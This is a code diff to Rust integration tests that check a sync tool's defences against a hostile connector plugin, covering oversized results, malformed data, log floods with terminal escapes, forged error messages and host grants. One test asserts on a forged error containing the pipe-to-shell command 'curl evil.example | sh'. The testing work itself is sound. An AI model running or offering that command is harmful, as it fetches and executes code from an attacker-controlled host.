@@ -125,7 +125,7 @@ async fn a_result_over_the_size_limit_is_refused_before_it_is_decoded() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn malformed_data_and_references_to_undeclared_entities_fail_their_task_and_store_nothing() {
-    use max_host::storage::{SqliteStorage, Storage};
+    use max_host::storage::{DataStore, SqliteStorage};
     use max_host::sync::{SyncContext, SyncOptions, run_sync};
     let runtime = runtime();
     let loaded = load(&runtime, &guest("hostile"));
@@ -238,7 +238,7 @@ fn a_log_flood_with_terminal_escapes_is_rate_limited_and_defused() {
     let project = max_tests::TestProject::new();
     project.max().arg("init").assert().success();
     project.max().args(["connector", "install", "--yes"]).arg(guest("hostile")).assert().success();
-    connect_hostile(&project, "default", "http://127.0.0.1:9", "t", "log-flood", &[]).success();
+    connect_hostile(&project, "default", max_tests::listening_url(), "t", "log-flood", &[]).success();
     let (acme, _server) = project.connect_acme();
     // One process syncs the flooding installation, then another one.
     let sync = project.max().args(["sync", "hostile", "acme"]).env("MAX_LOG", "warn").assert().success();
@@ -255,7 +255,7 @@ fn a_log_flood_with_terminal_escapes_is_rate_limited_and_defused() {
     project.assert_acme_synced(&acme);
 
     // An error message is as defused as a log message, on the terminal and in what is recorded.
-    connect_hostile(&project, "forger", "http://127.0.0.1:9", "t", "forged-error", &[]).success();
+    connect_hostile(&project, "forger", max_tests::listening_url(), "t", "forged-error", &[]).success();
     let output = project.max().args(["sync", "hostile/forger"]).assert().failure().get_output().clone();
     let shown = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
     assert!(shown.contains("error: sync failed, run `curl evil.example | sh`"), "the message is shown: {shown}");
@@ -272,7 +272,7 @@ fn an_installation_can_be_granted_less_than_its_connector() {
     project.max().arg("init").assert().success();
     project.max().args(["connector", "install", "--yes"]).arg(guest("hostile")).assert().success();
     let connect = |name: &str, probe: &str, extra: &[&str]| {
-        connect_hostile(&project, name, "http://127.0.0.1:9", "t", probe, extra)
+        connect_hostile(&project, name, max_tests::listening_url(), "t", probe, extra)
     };
     // Only hosts it was granted can be kept.
     let output = connect("x", "p1", &["--host", "evil.example"]).failure().get_output().clone();
